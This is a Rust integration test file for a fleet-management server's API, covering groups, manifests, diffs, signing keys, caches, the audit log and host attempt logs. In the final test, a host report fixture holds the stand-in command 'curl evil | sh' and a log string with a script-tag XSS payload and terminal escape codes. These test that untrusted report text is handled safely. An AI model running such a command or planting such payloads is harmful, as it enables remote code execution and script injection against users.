//! What people and programs ask of a fleet: one story for each resource, over a real server.

use serde_json::{Value, json};
use shared::{
    policy::{Cache, ProfileRule, Take},
    report::{Attempt, Running as Runs, Wanted},
    version::VersionNumber,
};

use super::{
    hosts::{enrol, profile, send_report, token},
    *,
};

async fn ask(server: &Running, path: &str) -> Value {
    let response = server.api(Method::GET, path).send().await.unwrap();
    let (status, body) = (response.status(), response.text().await.unwrap());
    assert_eq!(status, StatusCode::OK, "{path}: {body}");
    serde_json::from_str(&body).unwrap()
}

async fn refused(server: &Running, path: &str) -> (u16, String) {
    let response = server.api(Method::GET, path).send().await.unwrap();
    let status = response.status().as_u16();
    assert_eq!(response.headers()["content-type"], shared::api::PROBLEM, "{path}");
    let problem: Value = response.json().await.unwrap();
    assert_eq!(problem["status"], status);
    (status, problem["code"].as_str().unwrap().to_owned())
}

/// Two versions of `eu-prod/web`, and a policy that takes it.
async fn published() -> (tempfile::TempDir, Running) {
    let data = data();
    let server = Running::start(data.path()).await;
    for version in [1, 2] {
        let (status, told) = server.publish_web(version).await;
        assert_eq!(status, StatusCode::CREATED, "{told}");
    }
    let mut policy = policy(1, &key(21));
    let rule = ProfileRule {
        take: Take::Yes,
        activations: vec![shared::manifest::ActivationKind::None],
        privileged: false,
        user: None,
        epoch: 0,
    };
    policy.profiles = [("web".parse().unwrap(), rule)].into();
    policy.caches = vec![Cache { url: "https://cache.example".to_owned(), priority: 40 }];
    let policy = policy.to_bytes().unwrap();
    let owners = role("owners.eu-prod", 1, &[("eu-prod/_policy", &policy)], 4);
    let (status, told) = server.publish("owners.eu-prod", 0, &owners, &[&policy]).await;
    assert_eq!(status, StatusCode::CREATED, "{told}");
    (data, server)
}

#[tokio::test]
async fn a_group_shows_its_rules_what_is_in_force_and_who_may_sign() {
    let (_data, server) = published().await;
    let groups = ask(&server, "groups").await;
    assert_eq!(groups["items"][0]["group"], "eu-prod");
    assert_eq!(groups["items"][0]["profiles"], json!(["web"]));
    assert_eq!(ask(&server, "groups?q=us").await["items"], json!([]));
    let group = ask(&server, "groups/eu-prod").await;
    assert_eq!((&group["policy"], &group["hosts"]), (&json!(1), &json!(0)));
    assert_eq!(group["rules"]["caches"][0]["url"], "https://cache.example");
    assert_eq!(group["rules"]["profiles"]["web"]["take"], "yes");
    let [manifest] = group["manifests"].as_array().unwrap().as_slice() else { panic!("{group}") };
    assert_eq!((&manifest["version"], &manifest["take"]), (&json!(2), &json!("yes")));
    let fence = json!({"role": "web", "patterns": ["eu-prod/web*"], "threshold": 1});
    assert!(group["may_sign"].as_array().unwrap().contains(&fence), "{group}");
    assert_eq!(refused(&server, "groups/us-prod").await, (404, "not_found".to_owned()));
    assert_eq!(refused(&server, "groups/US").await, (400, "address".to_owned()));
    assert_eq!(refused(&server, "groups?nosuch=1").await, (400, "address".to_owned()));
    server.stop().await;
}

#[tokio::test]
async fn every_version_of_a_manifest_leads_to_the_bytes_that_were_signed() {
    let (_data, server) = published().await;
    let in_force = ask(&server, "groups/eu-prod/manifests").await;
    assert_eq!(in_force["items"].as_array().unwrap().len(), 1);
    let first = ask(&server, "groups/eu-prod/manifests/web?limit=1").await;
    assert_eq!(
        (&first["items"][0]["version"], &first["items"][0]["in_force"]),
        (&json!(2), &json!(true))
    );
    let cursor = first["next_cursor"].as_str().unwrap();
    let rest = ask(&server, &format!("groups/eu-prod/manifests/web?limit=1&cursor={cursor}")).await;
    assert_eq!((&rest["items"][0]["version"], &rest["next_cursor"]), (&json!(1), &Value::Null));
    let one = ask(&server, "groups/eu-prod/manifests/web/1").await;
    assert_eq!((&one["in_force"], &one["manifest"]["note"]), (&json!(false), &json!("release 1")));
    let raw = server.get(one["files"]["target"].as_str().unwrap()).send().await.unwrap();
    let raw = raw.bytes().await.unwrap();
    assert_eq!(Digest::of(&raw).to_string(), one["digest"]);
    let role = server.get(one["files"]["role"].as_str().unwrap()).send().await.unwrap();
    assert!(role.text().await.unwrap().contains(one["digest"].as_str().unwrap()));
    let missing = refused(&server, "groups/eu-prod/manifests/web/3").await;
    assert_eq!(missing, (404, "not_found".to_owned()));
    let wrong = refused(&server, "groups/eu-prod/manifests/web/0").await;
    assert_eq!(wrong, (400, "address".to_owned()));
    server.stop().await;
}

#[tokio::test]
async fn a_difference_names_packages_and_sizes() {
    let (_data, server) = published().await;
    let diff = ask(&server, "groups/eu-prod/diff").await;
    assert_eq!((&diff["from"]["version"], &diff["to"]["version"]), (&json!(1), &json!(2)));
    let change = &diff["changes"][0];
    assert_eq!(change["system"], "x86_64-linux");
    let package = &change["diff"]["packages"][0];
    assert_eq!(
        (&package["name"], &package["before"], &package["after"]),
        (&json!("web"), &json!(["1"]), &json!(["2"]))
    );
    assert_eq!(change["before"]["nar_size"], 1000);
    let back = ask(&server, "groups/eu-prod/diff?profile=web&from=2&to=1").await;
    assert_eq!(back["changes"][0]["diff"]["packages"][0]["after"], json!(["1"]));
    let first = ask(&server, "groups/eu-prod/diff?to=1").await;
    assert_eq!((&first["from"], &first["changes"][0]["before"]), (&Value::Null, &Value::Null));
    assert_eq!(ask(&server, "groups/eu-prod/diff?from=2").await["same"], 1);
    for path in
        ["groups/us-prod/diff", "groups/eu-prod/diff?to=9", "groups/eu-prod/diff?host=web-1"]
    {
        assert_eq!(refused(&server, path).await.0, 404, "{path}");
    }
    server.stop().await;
}

#[tokio::test]
async fn teams_and_keys_say_who_may_sign_what_until_when() {
    let (_data, server) = published().await;
    let web = ask(&server, "teams/web").await;
    let id = key(3).public().key_id().to_string();
    assert_eq!((&web["keys"], &web["signers"]), (&json!([id]), &json!([id])));
    assert_eq!((&web["version"], &web["parent"]), (&json!(2), &json!("targets")));
    assert!(web["targets"]["eu-prod/web"].is_string(), "{web}");
    let teams = ask(&server, "teams").await;
    let names: Vec<_> = teams["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|team| team["role"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["owners.eu-prod", "web"]);
    let found = ask(&server, &format!("keys/{id}")).await;
    assert_eq!(found["public"], key(3).public().to_hex());
    assert_eq!(found["roles"][0]["patterns"], json!(["eu-prod/web*"]));
    assert_eq!(found["roles"][0]["expires"], "2099-01-01T00:00:00Z");
    let keys = ask(&server, "keys").await;
    let roles = keys["items"].as_array().unwrap().iter();
    let mut roles: Vec<_> = roles.map(|key| key["roles"][0]["role"].as_str().unwrap()).collect();
    roles.sort_unstable();
    assert_eq!(roles, ["owners.eu-prod", "root", "snapshot", "targets", "timestamp", "web"]);
    assert_eq!(refused(&server, "teams/nobody").await.0, 404);
    assert_eq!(refused(&server, "keys/nothing").await.0, 404);
    server.stop().await;
}

#[tokio::test]
async fn caches_are_those_of_policies_and_coverage_is_what_publishers_found() {
    let (_data, server) = published().await;
    let caches = ask(&server, "caches").await;
    let one = json!({"url": "https://cache.example", "groups": {"eu-prod": 40}});
    assert_eq!(caches["items"], json!([one]));
    let coverage = ask(&server, "coverage?group=eu-prod").await;
    let found = &coverage["items"][0];
    assert_eq!((&found["caches"], &found["missing"]), (&json!([]), &json!(1)), "nobody told");

    let index = closure(3);
    let mut hints = Hints::default();
    let cache = hints.add_cache("https://cache.example");
    hints.entry(index.root()).nars.push(shared::hints::NarHint {
        cache,
        compression: shared::nix::narinfo::Compression::Zstd,
        file_size: 400,
        url: "nar/x.nar.zst".to_owned(),
    });
    let bytes = manifest("web", 3, &index).to_bytes().unwrap();
    let web = role("web", 3, &[("eu-prod/web", &bytes)], 3);
    let parts = [
        (Part::Role.name(), web),
        (Part::Blob.name(), bytes),
        (Part::Blob.name(), index.to_bytes()),
        (Part::Hints.name(), hints.to_bytes(index.digest())),
    ];
    let (status, told) = server.send("web", 2, parts).await;
    assert_eq!(status, StatusCode::CREATED, "{told}");
    let found = ask(&server, "coverage?group=eu-prod&profile=web").await;
    let known = json!([{"url": "https://cache.example", "is_allowed": true, "paths": 1,
        "file_size": 400}]);
    let found = &found["items"][0];
    assert_eq!((&found["caches"], &found["missing"]), (&known, &json!(0)));
    assert_eq!(refused(&server, "coverage").await, (400, "address".to_owned()));
    server.stop().await;
}

#[tokio::test]
async fn a_fleet_is_shown_at_a_glance_and_its_log_in_order() {
    let (data, server) = published().await;
    let token = token(data.path(), 1).await;
    enrol(&server, token, &Host::new("web-1", 11).request(&["eu-prod"])).await.unwrap();
    let fleet = ask(&server, "fleet").await;
    assert_eq!((&fleet["hosts"], &fleet["states"]), (&json!(1), &json!({"stale": 1})));
    assert_eq!(fleet["groups"][0]["group"], "eu-prod");
    assert_eq!(fleet["needs_attention"][0]["reason"]["code"], "never_seen");
    assert_eq!(fleet["freshness"]["root"], 1);
    assert_eq!(ask(&server, "groups/eu-prod").await["states"], json!({"stale": 1}));

    let audit = ask(&server, "audit?limit=2").await;
    let cursor = audit["next_cursor"].as_str().unwrap();
    let rest = ask(&server, &format!("audit?cursor={cursor}")).await;
    let all = audit["items"].as_array().unwrap().iter().chain(rest["items"].as_array().unwrap());
    let all: Vec<_> = all.map(|it| (it["what"].as_str().unwrap(), &it["subject"])).collect();
    let kinds: Vec<_> = all.iter().map(|(what, _)| *what).collect();
    let published = ["published"; 5].as_slice();
    assert_eq!(kinds, [published, &["token_made", "enrolled"]].concat(), "{all:?}");
    assert_eq!(refused(&server, "audit?cursor=x").await, (400, "address".to_owned()));
    server.stop().await;
}

#[tokio::test]
async fn a_host_shows_its_attempts_with_the_end_of_what_they_wrote() {
    let data = data();
    let server = Running::start(data.path()).await;
    let token = token(data.path(), 1).await;
    let host = Host::new("web-1", 11);
    let certificate = enrol(&server, token, &host.request(&["eu-prod"])).await.unwrap();
    let hostile = "<script>alert(1)</script>\u{1b}]0;owned\u{7}\r\n";
    for (counter, generation) in [(1, 7_u64), (2, 8)] {
        let mut report = host.report(counter, None);
        let mut web = profile("eu-prod", StateWord::RolledBack, "curl evil | sh");
        let path = closure(1).root().clone();
        web.wanted = Some(Wanted { epoch: 0, version: VersionNumber::FIRST, path: None });
        web.running = Some(Runs { epoch: None, version: None, path, generation });
        let log = format!("{}{hostile}{}", "first line\n".repeat(1000), "x".repeat(4000));
        let phases = vec![("switching".to_owned(), Time::of(testing::now()), 4)];
        web.attempt = Some(Attempt { id: format!("a{counter}"), phases, log });
        report.profiles.push(web);
        assert_eq!(send_report(&server, host.signed(&report, &certificate)).await.0, 200);
    }
    let list = ask(&server, "hosts/web-1/attempts?limit=1").await;
    let latest = &list["items"][0];
    assert_eq!((&latest["id"], &latest["state"]), (&json!("a2"), &json!("rolled_back")));
    assert_eq!((&latest["log_is_cut"], &latest["next"]), (&json!(true), &Value::Null));
    assert_eq!(latest["phases"][0]["phase"], "switching");
    assert!(latest["log"].as_str().unwrap().len() <= 4096);
    let cursor = list["next_cursor"].as_str().unwrap();
    let older = ask(&server, &format!("hosts/web-1/attempts?cursor={cursor}")).await;
    assert_eq!((&older["items"][0]["id"], &older["next_cursor"]), (&json!("a1"), &Value::Null));
    let whole = ask(&server, "hosts/web-1/attempts/a1").await;
    assert!(whole["log"].as_str().unwrap().contains(hostile), "told as it came");
    assert_eq!(whole["log_is_cut"], false);
    let none = ask(&server, "hosts/web-1/attempts?target=eu-prod/other").await;
    assert_eq!(none["items"], json!([]));
    let generations = ask(&server, "hosts/web-1/generations").await;
    let told = generations["items"].as_array().unwrap().iter();
    let told: Vec<_> = told.map(|it| (&it["generation"], &it["is_running"])).collect();
    assert_eq!(told, [(&json!(8), &json!(true)), (&json!(7), &json!(false))]);
    let detail = ask(&server, "hosts/web-1").await;
    assert_eq!(detail["report"]["profiles"][0]["next"], Value::Null, "nothing to paste");
    assert_eq!(refused(&server, "hosts/web-1/attempts/a3").await.0, 404);
    assert_eq!(refused(&server, "hosts/web-2/attempts").await.0, 404);
    server.stop().await;
}
